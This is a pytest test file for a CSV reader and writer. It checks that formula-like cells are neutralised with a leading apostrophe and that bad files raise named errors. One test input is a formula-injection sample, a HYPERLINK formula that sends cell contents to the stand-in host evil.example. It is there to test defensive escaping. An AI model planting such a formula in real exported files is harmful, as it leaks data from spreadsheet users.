"""CSV files exchanged with people: harmless in a spreadsheet, explained when they are wrong."""

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scout_assets.domain.failures import BadConfig
from scout_assets.gateways.tables_on_disk import read_csv, write_csv


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as lines:
        return list(csv.reader(lines))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?x="&A1,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_what_a_spreadsheet_would_run_is_written_as_text(tmp_path, formula):
    path = tmp_path / "out.csv"
    write_csv(path, [{"item": formula, "score": 1.5}], ("item", "score"))
    ((name, _),) = cells(path)[1:]
    assert name == "'" + formula


def test_a_lone_carriage_return_begins_no_row_of_its_own(tmp_path):
    path = tmp_path / "out.csv"
    write_csv(path, [{"item": "Cup\r=1+1"}], ("item",))
    assert b'"Cup\r=1+1"' in path.read_bytes()
    assert len(cells(path)) == 2


def test_numbers_stay_numbers_and_harmless_text_stays_as_it_is(tmp_path):
    path = tmp_path / "out.csv"
    rows = [{"item": 'Ä "b", c\nd', "score": -1.5}, {"item": "a-b=c"}]
    assert write_csv(path, rows, ("item", "score")) == 2
    assert cells(path) == [["item", "score"], ['Ä "b", c\nd', "-1.5"], ["a-b=c", ""]]


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=8))
def test_no_cell_of_text_begins_a_formula(tmp_path_factory, text):
    path = tmp_path_factory.getbasetemp() / "law.csv"
    write_csv(path, [{"a": text, "b": "x"}], ("a", "b"))
    assert not cells(path)[1][0].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize("mark", [",", ";", "\t", "|"])
def test_a_file_saved_by_a_spreadsheet_is_read_whatever_parts_its_columns(tmp_path, mark):
    path = tmp_path / "in.csv"
    path.write_text(f"\ufeffid{mark}name\n1{mark}a: b\n", encoding="utf-8")
    assert read_csv(path).to_dicts() == [{"id": "1", "name": "a: b"}]


def test_every_column_is_read_as_text_and_empty_cells_as_nothing(tmp_path):
    path = tmp_path / "in.csv"
    path.write_bytes("\ufeffid,gtin,name\n1,0012345678905,\n".encode())
    assert read_csv(path).to_dicts() == [{"id": "1", "gtin": "0012345678905", "name": None}]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (None, "there is no file"),
        (b"", "cannot be read as CSV"),
        (b"id,name\n1,\xff\xfe\xfa\n", "cannot be read as CSV"),
        (b"id,name\n1,a,b,c\n", "cannot be read as CSV"),
    ],
)
def test_what_is_no_csv_is_named(tmp_path, content, said):
    path = tmp_path / "in.csv"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(BadConfig, match=said) as error:
        read_csv(path)
    assert str(path) in str(error.value)


def test_a_place_that_cannot_be_written_is_named(tmp_path):
    path = tmp_path / "nowhere" / "out.csv"
    with pytest.raises(BadConfig, match=r"cannot write .*out\.csv"):
        write_csv(path, [], ("a",))
